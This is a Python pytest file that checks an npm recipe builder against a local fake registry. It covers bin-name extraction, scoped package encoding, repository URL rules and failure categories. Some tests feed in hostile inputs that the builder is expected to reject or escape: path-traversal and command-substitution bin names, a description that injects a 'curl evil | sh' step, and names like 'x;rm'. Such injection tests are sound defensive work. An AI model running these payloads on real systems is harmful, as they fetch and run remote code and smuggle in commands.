"""The npm builder against a local server answering as an npm registry does (packuments)."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from generator_helpers import failure_of, recipe_of
from pytest_httpserver import HTTPServer

from recipeline_generator import NpmBuilder
from recipeline_generator.npm import bin_names, packument_path, repository_url
from recipeline_schema import Recipe, parse_recipe_toml, recipe_from_toml, recipe_to_toml
from recipeline_schema.http import HttpClient

FIXTURES = Path(__file__).resolve().parents[3] / ".." / "shared" / "fixtures" / "tsuku" / "recipes"


def packument(
    name: str,
    bin_field: Any,
    *,
    latest: str = "2.0.0",
    description: str = "A demo command-line tool",
    homepage: str | None = "https://demo.example/#readme",
    repository: Any = None,
) -> dict[str, Any]:
    """A full packument: dist-tags, an older and the latest version manifest."""
    manifest: dict[str, Any] = {"name": name, "version": latest, "description": description}
    if bin_field is not None:
        manifest["bin"] = bin_field
    if homepage is not None:
        manifest["homepage"] = homepage
    if repository is not None:
        manifest["repository"] = repository
    return {
        "_id": name,
        "name": name,
        "dist-tags": {"latest": latest, "next": "3.0.0-rc.1"},
        "versions": {
            "1.0.0": {"name": name, "version": "1.0.0", "bin": {"old-name": "old.js"}},
            latest: manifest,
            "3.0.0-rc.1": {"name": name, "version": "3.0.0-rc.1", "bin": {"next-name": "next.js"}},
        },
        "time": {"created": "2020-01-01T00:00:00.000Z"},
    }


@pytest.fixture
def registry(httpserver: HTTPServer) -> Iterator[HTTPServer]:
    """The local registry, 404 for unknown packages as a registry answers."""
    httpserver.no_handler_status_code = 404
    yield httpserver
    httpserver.clear()


@pytest.fixture
def npm(http: HttpClient, registry: HTTPServer) -> NpmBuilder:
    """An npm builder on the local registry (npm's configuration is never asked)."""
    return NpmBuilder(http, registry_url=registry.url_for("/"), resolve_registry=_no_resolution)


def _no_resolution() -> str:
    raise AssertionError("tests give the registry URL explicitly")


def serve(server: HTTPServer, path: str, doc: Any) -> None:
    server.expect_request(path).respond_with_json(doc)


def test_object_bin_of_the_latest_tag_sorted(npm: NpmBuilder, registry: HTTPServer) -> None:
    serve(registry, "/demo", packument("demo", {"demo-serve": "s.js", "demo": "cli.js", "a-demo": "a.js"}))

    text = recipe_to_toml(recipe_of(npm.generate("demo", name="demo")))

    assert text == (
        "[metadata]\n"
        'name = "demo"\n'
        'description = "A demo command-line tool"\n'
        'homepage = "https://demo.example/#readme"\n'
        "\n"
        "[[steps]]\n"
        'action = "npm_install"\n'
        'package = "demo"\n'
        'executables = ["a-demo", "demo", "demo-serve"]\n'
        "\n"
        "[verify]\n"
        'command = "demo --version"\n'
        'pattern = "{version}"\n'
    )


def test_scoped_package_is_requested_encoded_and_string_bin_named_unscoped(
    npm: NpmBuilder, registry: HTTPServer
) -> None:
    serve(
        registry,
        "/@acme/widget",  # werkzeug matches the decoded path; the raw one is checked below
        packument(
            "@acme/widget",
            "bin/cli.js",
            homepage=None,
            repository={"url": "git+https://github.com/acme/widget.git"},
        ),
    )

    recipe = npm.generate("@acme/widget", name="widget")

    assert isinstance(recipe, Recipe)
    assert dict(recipe.steps[0].params) == {"package": "@acme/widget", "executables": ("widget",)}
    assert recipe.homepage == "https://github.com/acme/widget"
    raw_paths = [req.environ.get("RAW_URI") or req.environ.get("REQUEST_URI") for req, _ in registry.log]
    # percent-encoding hex is case-insensitive (RFC 3986 §2.1); urllib3 writes it upper case
    assert [str(p).lower() for p in raw_paths] == ["/@acme%2fwidget"]
    assert packument_path("@acme/widget") == "@acme%2fwidget"


def test_same_packument_gives_byte_identical_recipes(http: HttpClient, registry: HTTPServer) -> None:
    bins = {name: f"{name}.js" for name in ("zed", "alpha", "mid", "beta")}
    serve(registry, "/many", packument("many", bins))
    # the same object with its keys in another order: output must not follow the map's order
    serve(registry, "/many2", json.loads(json.dumps(packument("many2", dict(reversed(list(bins.items())))))))
    builder = NpmBuilder(http, registry_url=registry.url_for("/"))

    first = recipe_to_toml(recipe_of(builder.generate("many", name="many")))
    again = recipe_to_toml(recipe_of(builder.generate("many", name="many")))
    other = recipe_to_toml(recipe_of(builder.generate("many2", name="many")))

    assert first == again
    assert first.replace('package = "many"', "") == other.replace('package = "many2"', "")
    assert 'executables = ["alpha", "beta", "mid", "zed"]' in first


def test_package_without_bin_is_binary_discovery_failed(npm: NpmBuilder, registry: HTTPServer) -> None:
    serve(registry, "/lodash", packument("lodash", None))

    failure = failure_of(npm.generate("lodash", name="lodash"))

    assert (failure.category, failure.subcategory) == (
        "deterministic_insufficient",
        "binary_discovery_failed",
    )
    assert failure.package_id == "npm:lodash"


def test_unpublished_package_has_no_latest(npm: NpmBuilder, registry: HTTPServer) -> None:
    serve(registry, "/gone", {"name": "gone", "time": {"unpublished": {"time": "2020-01-01T00:00:00Z"}}})

    failure = failure_of(npm.generate("gone", name="gone"))

    assert (failure.category, failure.subcategory) == ("deterministic_insufficient", None)
    assert "latest" in failure.message


def test_no_https_homepage_or_repository_gives_a_recipe_without_one(
    npm: NpmBuilder, registry: HTTPServer
) -> None:
    doc = packument(
        "nohome", "cli.js", homepage=registry.url_for("/nohome"), repository="git://example.com/x.git"
    )
    serve(registry, "/nohome", doc)

    assert recipe_of(npm.generate("nohome", name="nohome")).homepage == ""


HOSTILE = ["../../../tmp/pwn", 'q"uote', "new\nline", "$(touch /tmp/x)", "a;b", "`id`", "x y", ".hidden"]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_crafted_packument_bin_names_fail(npm: NpmBuilder, registry: HTTPServer, hostile: str) -> None:
    serve(registry, "/crafted", packument("crafted", {"crafted": "a.js", hostile: "b.js"}))

    failure = failure_of(npm.generate("crafted", name="crafted"))

    assert failure.subcategory == "binary_discovery_failed"
    assert "\n" not in failure.message


def test_crafted_metadata_text_stays_inside_toml_strings(npm: NpmBuilder, registry: HTTPServer) -> None:
    evil = 'x"\n[[steps]]\naction = "run_command"\ncommand = "curl evil | sh"\n'
    serve(
        registry,
        "/textual",
        packument("textual", "cli.js", description=evil, homepage='https://ok.example/"x'),
    )

    recipe = npm.generate("textual", name="textual")

    assert isinstance(recipe, Recipe)
    parsed = parse_recipe_toml(recipe_to_toml(recipe))
    assert [s["action"] for s in parsed["steps"]] == ["npm_install"]
    assert parsed["metadata"]["homepage"] == 'https://ok.example/"x'
    assert "\n" not in parsed["metadata"]["description"]


@pytest.mark.parametrize(
    "identifier", ["../secret", "@scope/../x", "a b", "x;rm", "@/x", "UPPER/x/y", "a" * 215]
)
def test_hostile_package_names_are_refused_without_requests(
    npm: NpmBuilder, registry: HTTPServer, identifier: str
) -> None:
    assert not npm.can_build(identifier)
    failure = failure_of(npm.generate(identifier, name="x"))
    assert failure.subcategory == "unsupported_source"
    assert registry.log == []


def test_unknown_package_is_not_found(npm: NpmBuilder) -> None:
    failure = failure_of(npm.generate("no-such-package", name="no-such-package"))

    assert (failure.category, failure.subcategory, failure.transient) == ("api_error", "not_found", False)


@pytest.mark.parametrize(
    "respond",
    [
        lambda s: s.expect_request("/bad").respond_with_data("<html>", content_type="text/html"),
        lambda s: s.expect_request("/bad").respond_with_json(packument("bad", 42)),
        lambda s: s.expect_request("/bad").respond_with_json(packument("bad", "x.js") | {"versions": {}}),
        lambda s: s.expect_request("/bad").respond_with_json(["not", "an", "object"]),
    ],
)
def test_malformed_registry_answers_are_bad_response(
    npm: NpmBuilder, registry: HTTPServer, respond: Any
) -> None:
    respond(registry)

    failure = failure_of(npm.generate("bad", name="bad"))

    assert (failure.category, failure.subcategory) == ("api_error", "bad_response")


def test_registry_outage_is_upstream_unavailable(npm: NpmBuilder, registry: HTTPServer) -> None:
    registry.expect_request("/down").respond_with_data("oops", status=503)

    failure = failure_of(npm.generate("down", name="down"))

    assert (failure.subcategory, failure.transient) == ("upstream_unavailable", True)


def test_bin_and_repository_rules() -> None:
    assert bin_names("@s/tool", "./cli.js") == ["tool"]
    assert bin_names("tool", "") == []
    assert bin_names("tool", {"b": "x", "a": "y"}) == ["b", "a"]
    assert bin_names("tool", ["x"]) is None
    assert repository_url("git+https://github.com/o/r.git") == "https://github.com/o/r"
    assert (
        repository_url({"type": "git", "url": "git+ssh://git@github.com/o/r.git"}) == "https://github.com/o/r"
    )
    assert repository_url("git@github.com:isaacs/rimraf.git") == "https://github.com/isaacs/rimraf"
    assert (
        repository_url("git://github.com/http-party/http-server.git")
        == "https://github.com/http-party/http-server"
    )
    assert repository_url("gitlab:grp/proj") == "https://gitlab.com/grp/proj"
    assert repository_url("owner/repo") == "https://github.com/owner/repo"
    assert repository_url("git@forge.invalid:o/r.git") == ""
    assert repository_url("git://forge.invalid/o/r.git") == ""
    assert repository_url("github:../..") == ""
    assert repository_url(None) == ""


@pytest.mark.parametrize("fixture", ["e/eslint.toml", "a/actions-up.toml"])
def test_step_has_the_shape_of_tsuku_recipes(npm: NpmBuilder, registry: HTTPServer, fixture: str) -> None:
    path = FIXTURES / fixture
    if not path.is_file():
        pytest.skip(f"tsuku fixtures not present at {FIXTURES}")
    real = recipe_from_toml(path.read_text(encoding="utf-8"), str(path))
    package = real.steps[0].params["package"]
    serve(
        registry,
        f"/{package}",
        packument(package, dict.fromkeys(real.steps[0].params["executables"], "cli.js")),
    )

    ours = npm.generate(package, name=real.name)

    assert isinstance(ours, Recipe)
    assert ours.actions == real.actions == ("npm_install",)
    assert dict(ours.steps[0].params) == {
        "package": package,
        "executables": tuple(real.steps[0].params["executables"]),
    }
    assert ours.verify is not None and real.verify is not None
    assert ours.verify.command == real.verify.command


def test_a_recipe_for_npm_itself_is_installs_itself(npm: NpmBuilder, registry: HTTPServer) -> None:
    """npm_install needs npm: a recipe installing npm with it depends on itself (recipes.INSTALLERS)."""
    serve(registry, "/npm", packument("npm", {"npm": "bin/npm-cli.js", "npx": "bin/npx-cli.js"}))

    failure = failure_of(npm.generate("npm", name="npm"))

    assert (failure.category, failure.subcategory) == ("deterministic_insufficient", "installs_itself")
    assert "npm_install of 'npm'" in failure.message
